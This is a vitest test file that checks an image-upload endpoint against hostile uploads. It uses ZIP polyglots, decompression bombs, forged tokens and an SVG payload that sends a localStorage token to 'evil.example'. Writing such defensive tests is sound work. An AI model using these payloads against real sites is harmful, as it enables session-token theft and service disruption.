/**
 * Image uploads as an attacker sends them. Every refusal is a clear 4xx and leaves NOTHING behind:
 * the disk store holds the same files and every row of the database is unchanged (a digest of every
 * table, so a logo column pointed at a refused image would show). What is accepted is re-encoded:
 * the stored file is a plain JPEG or PNG whose name says what its bytes are, and nothing that rode
 * along in the upload (a ZIP appended or hidden in a comment) survives.
 */
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { IMAGE_UPLOAD_MAX_BYTES as MAX_UPLOAD_BYTES } from '@tavola/domain/image';
import { eq } from 'drizzle-orm';
import JSZip from 'jszip';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clubMembers, clubs } from '#db/schema.ts';
import { databaseFingerprint } from '#test/db-fingerprint.ts';
import { useTestApp } from '#test/harness.ts';
import { sniffImageType } from './image-check.ts';
import { heicLookingBytes } from './test-support.ts';
import { UPLOAD_TOKEN_TTL_MS } from './upload-tokens.ts';

const workDir = fs.mkdtempSync(path.join(os.tmpdir(), 'tavola-hostile-uploads-'));
const uploadDir = path.join(workDir, 'store');
const SECRET = 'hostile-upload-secret-with-at-least-32-characters';
const MARKER = 'TAVOLA-SMUGGLED-PAYLOAD-7f3a';

afterAll(() => fs.rmSync(workDir, { recursive: true, force: true }));

function solid(width: number, height: number) {
  return sharp({ create: { width, height, channels: 3, background: { r: 30, g: 120, b: 200 } } });
}

/** A ZIP holding a script, stored uncompressed so its text is plainly in the bytes. */
async function smuggledZip(): Promise<Buffer> {
  const zip = new JSZip();
  zip.file('run.sh', `#!/bin/sh\necho ${MARKER}\n`);
  return zip.generateAsync({ type: 'nodebuffer', compression: 'STORE' });
}

/** A JPEG with a comment segment (FFFE) right after the start of image, holding these bytes. */
function withJpegComment(jpeg: Buffer, comment: Buffer): Buffer {
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([jpeg.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, jpeg.subarray(2)]);
}

/** A valid PNG signature and IHDR claiming this size, then an IDAT of a few bytes. */
function pngClaiming(width: number, height: number) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8);
  ihdr.writeUInt8(2, 9);
  const chunk = Buffer.concat([Buffer.from([0, 0, 0, 13]), Buffer.from('IHDR'), ihdr, Buffer.alloc(4)]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk]);
}

const SCRIPTED_SVG = `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.domain)">
  <script>fetch('https://evil.example/'+localStorage.getItem('token'))</script>
  <rect width="100" height="100" fill="red"/>
</svg>`;

describe('hostile image uploads', () => {
  const t = useTestApp({ env: { UPLOAD_SECRET: SECRET, UPLOAD_DIR: uploadDir } });
  let ownerToken = '';

  beforeAll(async () => {
    ownerToken = await t.signIn(t.demo.user);
  });

  async function uploadUrl(token = ownerToken) {
    const response = await t.call('createClubLogoUpload', { params: { clubId: t.demo.clubId }, token });
    expect(response.statusCode).toBe(201);
    return response.json().uploadUrl as string;
  }

  const tokenOf = (url: string) => url.slice(url.lastIndexOf('/') + 1);

  function put(
    token: string,
    payload: Buffer | string | undefined,
    contentType: string | null = 'image/jpeg',
  ) {
    return t.call('uploadImage', {
      params: { uploadToken: token },
      ...(payload === undefined ? {} : { payload, contentType }),
    });
  }

  function storedFiles(): string[] {
    return fs.existsSync(uploadDir) ? fs.readdirSync(uploadDir).sort() : [];
  }

  /** Sends the upload, expects this refusal, and checks that neither the store nor a row changed. */
  async function refusedWithNothingStored(
    send: () => Promise<{ statusCode: number; json(): { code: string; message: string } }>,
    status: number,
    code: string,
  ) {
    const filesBefore = storedFiles();
    const rowsBefore = await databaseFingerprint(t.app.db);
    const response = await send();
    expect(response.statusCode, JSON.stringify(response.json())).toBe(status);
    expect(response.json().code).toBe(code);
    expect(response.json().message.length).toBeGreaterThan(10);
    expect(storedFiles()).toEqual(filesBefore);
    expect(await databaseFingerprint(t.app.db)).toEqual(rowsBefore);
  }

  const EXTENSIONS: Record<string, string> = {
    'image/jpeg': '.jpg',
    'image/png': '.png',
    'image/webp': '.webp',
    'image/avif': '.avif',
  };

  /** Every stored file is a plain image whose extension says which type it is. */
  function expectStoreHoldsOnlyWhatNamesSay() {
    for (const name of storedFiles()) {
      const bytes = fs.readFileSync(path.join(uploadDir, name));
      const type = sniffImageType(bytes);
      expect(type, name).not.toBeNull();
      expect(name.endsWith(EXTENSIONS[type ?? ''] ?? '?'), name).toBe(true);
    }
  }

  async function storedBytesOf(url: string) {
    return fs.readFileSync(path.join(uploadDir, url.slice(url.lastIndexOf('/') + 1)));
  }

  it('stores a PNG labelled image/jpeg (a PNG named .jpg) as a PNG, named and served as one', async () => {
    // The contract judges by the bytes, not the label: the browser's label comes from the file
    // name. What must never happen is a PNG stored or served as a JPEG (or the reverse).
    const png = await solid(40, 30).png().toBuffer();
    const response = await put(tokenOf(await uploadUrl()), png, 'image/jpeg');
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({ contentType: 'image/png' });
    expect(response.json().url).toMatch(/\.png$/);
    const served = await t.call('getImage', {
      params: { imageName: response.json().url.split('/').pop() },
    });
    expect(served.headers['content-type']).toBe('image/png');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expectStoreHoldsOnlyWhatNamesSay();
  });

  it('re-encodes a JPEG/ZIP polyglot: the stored file holds no trace of the ZIP', async () => {
    const zip = await smuggledZip();
    const jpeg = await solid(64, 48).jpeg().toBuffer();
    const png = await solid(64, 48).png().toBuffer();
    const polyglots = {
      'JPEG + ZIP appended': Buffer.concat([jpeg, zip]),
      'ZIP in a JPEG comment': withJpegComment(jpeg, zip),
      'PNG + ZIP appended': Buffer.concat([png, zip]),
    };
    for (const [what, polyglot] of Object.entries(polyglots)) {
      // the upload really is a ZIP too: unzip tools open it
      expect((await JSZip.loadAsync(polyglot)).file('run.sh'), what).not.toBeNull();
      const response = await put(tokenOf(await uploadUrl()), polyglot);
      expect(response.statusCode, what).toBe(200);
      const stored = await storedBytesOf(response.json().url);
      expect(stored.includes(Buffer.from(MARKER)), what).toBe(false);
      expect(stored.includes(Buffer.from('run.sh')), what).toBe(false);
      expect(stored.includes(Buffer.from([0x50, 0x4b, 0x03, 0x04])), `${what}: local header`).toBe(false);
      expect(stored.includes(Buffer.from([0x50, 0x4b, 0x05, 0x06])), `${what}: directory end`).toBe(false);
      await expect(JSZip.loadAsync(stored), what).rejects.toThrow();
      expect((await sharp(stored).metadata()).comments ?? [], what).toEqual([]);
    }
    expectStoreHoldsOnlyWhatNamesSay();
  });

  it('refuses an SVG with script, also labelled image/png or behind a byte-order mark, storing nothing', async () => {
    const url = await uploadUrl();
    const svgs: [string, Buffer, string][] = [
      ['svg', Buffer.from(SCRIPTED_SVG), 'image/svg+xml'],
      ['svg named .png', Buffer.from(SCRIPTED_SVG), 'image/png'],
      ['svg named .jpg', Buffer.from(SCRIPTED_SVG), 'image/jpeg'],
      [
        'svg after a BOM',
        Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(SCRIPTED_SVG)]),
        'image/png',
      ],
      ['html', Buffer.from('<html><script>alert(1)</script></html>'), 'image/png'],
    ];
    for (const [, bytes, label] of svgs) {
      await refusedWithNothingStored(() => put(tokenOf(url), bytes, label), 415, 'unsupported_image_type');
    }
  });

  it('keeps logos to JPG or PNG: WebP and AVIF refused with that text, HEIC told how to send a JPG', async () => {
    const url = await uploadUrl();
    for (const bytes of [await solid(60, 40).webp().toBuffer(), await solid(60, 40).avif().toBuffer()]) {
      await refusedWithNothingStored(
        () => put(tokenOf(url), bytes, 'image/png'),
        415,
        'unsupported_image_type',
      );
      expect((await put(tokenOf(url), bytes)).json().message).toBe(
        'Unsupported image type: choose a JPG or PNG image',
      );
    }
    await refusedWithNothingStored(
      () => put(tokenOf(url), heicLookingBytes(), 'image/heic'),
      415,
      'image_heic',
    );
  });

  it('refuses decompression bombs by the size the header declares, before decoding', async () => {
    const url = await uploadUrl();
    // a 50,000 × 50,000 PNG in 45 bytes, and a real one: a zlib stream of zeros decoding to 42 MP
    await refusedWithNothingStored(
      () => put(tokenOf(url), pngClaiming(50_000, 50_000), 'image/png'),
      400,
      'image_too_many_pixels',
    );
    const realBomb = await sharp({ create: { width: 6500, height: 6500, channels: 3, background: '#000' } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(realBomb.length).toBeLessThan(MAX_UPLOAD_BYTES);
    await refusedWithNothingStored(
      () => put(tokenOf(url), realBomb, 'image/png'),
      400,
      'image_too_many_pixels',
    );
    // 65535 × 65535 claimed by a JPEG's frame header
    const jpeg = await solid(16, 16).jpeg().toBuffer();
    const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
    jpeg.writeUInt16BE(0xffff, sof + 5);
    jpeg.writeUInt16BE(0xffff, sof + 7);
    await refusedWithNothingStored(() => put(tokenOf(url), jpeg), 400, 'image_too_many_pixels');
  });

  it('refuses truncated images, wherever they were cut, storing nothing', async () => {
    const url = await uploadUrl();
    const jpeg = await solid(400, 300).jpeg().toBuffer();
    // noise, so that the pixel data is long and a cut lands inside it
    const png = await sharp(randomBytes(300 * 300 * 3), { raw: { width: 300, height: 300, channels: 3 } })
      .png()
      .toBuffer();
    const cuts: [string, Buffer][] = [
      ['JPEG: header only', jpeg.subarray(0, 200)],
      ['JPEG: half', jpeg.subarray(0, Math.floor(jpeg.length / 2))],
      ['JPEG: no end marker', jpeg.subarray(0, jpeg.length - 2)],
      ['PNG: signature only', png.subarray(0, 8)],
      ['PNG: header only', png.subarray(0, 40)],
      ['PNG: half', png.subarray(0, Math.floor(png.length / 2))],
    ];
    for (const [what, bytes] of cuts) {
      const filesBefore = storedFiles();
      const response = await put(tokenOf(url), bytes, 'image/jpeg');
      expect(response.statusCode, what).toBe(400);
      expect(response.json().code, what).toBe('image_unreadable');
      expect(storedFiles(), what).toEqual(filesBefore);
    }
  });

  it('stores a PNG cut only after its last pixel row (no IEND chunk) as a complete re-encoded PNG', async () => {
    // every pixel is there, so libvips decodes it whole: nothing of the cut reaches the store
    const png = await solid(120, 80).png().toBuffer();
    const response = await put(tokenOf(await uploadUrl()), png.subarray(0, png.length - 12), 'image/png');
    expect(response.statusCode).toBe(200);
    const stored = await storedBytesOf(response.json().url);
    expect(stored.subarray(-8, -4).toString('latin1')).toBe('IEND');
    expect(await sharp(stored).metadata()).toMatchObject({ width: 120, height: 80, format: 'png' });
  });

  it('refuses an empty body, with or without a label, storing nothing', async () => {
    const token = tokenOf(await uploadUrl());
    await refusedWithNothingStored(() => put(token, undefined), 400, 'validation_failed');
    await refusedWithNothingStored(() => put(token, Buffer.alloc(0), 'image/png'), 400, 'validation_failed');
    await refusedWithNothingStored(() => put(token, Buffer.alloc(0), null), 400, 'validation_failed');
  });

  it('refuses an oversize body, declared or streamed without a length, storing nothing', async () => {
    const token = tokenOf(await uploadUrl());
    const big = Buffer.alloc(MAX_UPLOAD_BYTES + 1, 0);
    big.set([0xff, 0xd8, 0xff], 0);
    await refusedWithNothingStored(() => put(token, big), 413, 'payload_too_large');
    // chunked: no Content-Length to judge by, the limit trips while reading
    await refusedWithNothingStored(
      () =>
        t.app.inject({
          method: 'PUT',
          url: `/api/v1/uploads/${token}`,
          headers: { 'content-type': 'image/jpeg', 'transfer-encoding': 'chunked' },
          payload: Readable.from(
            (function* () {
              for (let sent = 0; sent <= MAX_UPLOAD_BYTES; sent += 64 * 1024)
                yield big.subarray(0, 64 * 1024);
            })(),
          ),
        }),
      413,
      'payload_too_large',
    );
  });

  it('refuses an expired address and every tampered one, storing nothing', async () => {
    const jpeg = await solid(50, 50).jpeg().toBuffer();
    const expired = tokenOf(await uploadUrl());
    t.clock.advance(UPLOAD_TOKEN_TTL_MS + 1000);
    await refusedWithNothingStored(() => put(expired, jpeg), 400, 'invalid_or_expired_link');

    const token = tokenOf(await uploadUrl());
    const [payload = '', signature = ''] = token.split('.');
    const claims = Buffer.from(payload, 'base64url');
    /** the token with one claim byte changed and the old signature */
    const changed = (offset: number, value: (old: number) => number) => {
      const copy = Buffer.from(claims);
      copy.writeUInt8(value(copy.readUInt8(offset)) & 0xff, offset);
      return `${copy.toString('base64url')}.${signature}`;
    };
    const otherClubId = Buffer.from(claims);
    otherClubId.writeUInt32BE(otherClubId.readUInt32BE(claims.length - 4) + 1, claims.length - 4);
    const otherSignature = tokenOf(await uploadUrl()).split('.')[1] ?? '';
    const tampered: Record<string, string> = {
      'other club id': `${otherClubId.toString('base64url')}.${signature}`,
      'other target kind (menu logo)': changed(1, () => 3),
      'other user id': changed(5, (old) => old + 1),
      'expiry moved later': changed(6, (old) => old + 1),
      'other nonce': changed(10, (old) => old ^ 0xff),
      'signature changed': `${payload}.${signature.startsWith('A') ? 'B' : 'A'}${signature.slice(1)}`,
      "another address's signature": `${payload}.${otherSignature}`,
      'signature cut': `${payload}.${signature.slice(0, -2)}`,
      'no signature': payload,
      'three parts': `${token}.${signature}`,
      'padded spelling': `${payload}=.${signature}`,
      'path in the token': `..%2F${token}`,
    };
    for (const [what, forged] of Object.entries(tampered)) {
      const filesBefore = storedFiles();
      const response = await put(forged, jpeg);
      expect(response.statusCode, what).toBe(400);
      expect(response.json().code, what).toMatch(/^(invalid_or_expired_link|validation_failed)$/);
      expect(storedFiles(), what).toEqual(filesBefore);
    }
    // the genuine one still works afterwards: the forgeries cost the owner nothing
    expect((await put(token, jpeg)).statusCode).toBe(200);
  });

  it('stores nothing for an address whose user lost access to the club meanwhile', async () => {
    const manager = await t.createUser();
    await t.app.db.insert(clubMembers).values({ clubId: t.demo.clubId, userId: manager.id, role: 'manager' });
    const url = await uploadUrl(await t.signIn(manager));
    await t.app.db.delete(clubMembers).where(eq(clubMembers.userId, manager.id));
    // a picture never uploaded before, so a stored file could only come from this refused upload
    const jpeg = await sharp({ create: { width: 77, height: 55, channels: 3, background: '#123456' } })
      .jpeg()
      .toBuffer();
    await refusedWithNothingStored(() => put(tokenOf(url), jpeg), 404, 'upload_target_not_found');
  });

  it('keeps the logo of the club through all of the above: only accepted uploads changed it', async () => {
    const [club] = await t.app.db.select({ logo: clubs.logo }).from(clubs).where(eq(clubs.id, t.demo.clubId));
    expect(club?.logo ?? '').toMatch(/\/api\/v1\/images\/[0-9a-f]{32}\.jpg$/);
    expectStoreHoldsOnlyWhatNamesSay();
  });
});
